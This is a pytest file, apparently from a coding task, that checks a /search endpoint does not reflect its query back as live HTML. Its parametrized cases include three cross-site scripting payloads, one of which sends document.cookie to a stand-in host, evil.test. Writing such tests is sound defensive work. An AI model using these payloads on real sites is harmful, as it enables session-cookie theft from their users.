import pytest

from solution import app


@pytest.mark.parametrize("payload", [
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=fetch('//evil.test?c='+document.cookie)>",
])
def test_query_is_not_reflected_as_markup(payload):
    """Reflected XSS: the search term comes back as live HTML in the heading."""
    body = app.test_client().get("/search", query_string={"q": payload}).get_data(as_text=True)
    assert "<script>" not in body
    assert "<img" not in body and "<svg" not in body
